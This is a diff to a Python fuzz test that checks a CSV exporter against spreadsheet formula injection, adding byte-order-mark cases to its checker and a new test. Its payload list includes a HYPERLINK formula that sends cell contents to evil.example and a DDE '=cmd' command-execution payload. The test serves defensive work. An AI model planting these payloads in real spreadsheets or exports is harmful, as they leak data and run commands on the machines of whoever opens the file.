@@ -22,7 +22,7 @@ from reliability import tally
 from reliability.fuzzing import texts
 
 STARTS = ["=", "+", "-", "@", "\t", "\r", " =", "\n=", "\u00a0+", "\uff1d", "\uff0b",
-          "\uff0d", "\uff20"]
+          "\uff0d", "\uff20", "\ufeff -"]
 PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0",
             "+1+1", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1", " =1+1", "＝1+1", "=1+1\n", "-3",
             "+4.5e3", "-.5", "12", "plain text", "", "'=already quoted"]
@@ -30,11 +30,13 @@ NUMBER = re.compile(r"\s*[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?\s*")
 
 
 def dangerous(cell: str) -> bool:
-    """What a spreadsheet could evaluate: independent of export.py's own rule."""
+    """What a spreadsheet could evaluate: independent of export.py's own rule. A leading
+    byte-order mark is dropped by readers when it opens the file (as the first header)."""
     if cell.startswith(("\t", "\r")):
         return True
-    return cell.lstrip().startswith(tuple(s.strip() for s in STARTS if s.strip())) \
-        and not NUMBER.fullmatch(cell)
+    start = re.sub(r"^[\s\ufeff]+", "", cell)
+    return start.startswith(tuple(s.strip() for s in STARTS if s.strip())) \
+        and not NUMBER.fullmatch(start)
 
 
 def formulaic():
@@ -74,6 +76,12 @@ def test_no_cell_or_header_can_become_a_formula(cells, numbers, headers):
         assert safe.iloc[:, 3].tolist() == frame.iloc[:, 3].tolist(), "numbers stay numbers"
         assert not [c for c in cells_of(csv_bytes(frame)) if dangerous(c)]
         tally.record("exports", payloads=frame.size + len(headers))
+
+
+def test_a_first_header_opening_with_a_byte_order_mark():
+    """Readers drop a mark that opens the file, so what follows it must be safe on its own."""
+    frame = pd.DataFrame({"\ufeff ->": ["x"], "\ufeff=1+1": ["y"]})
+    assert not [c for c in cells_of(csv_bytes(frame)) if dangerous(c)]
 
 
 def test_known_payloads(tmp_path):
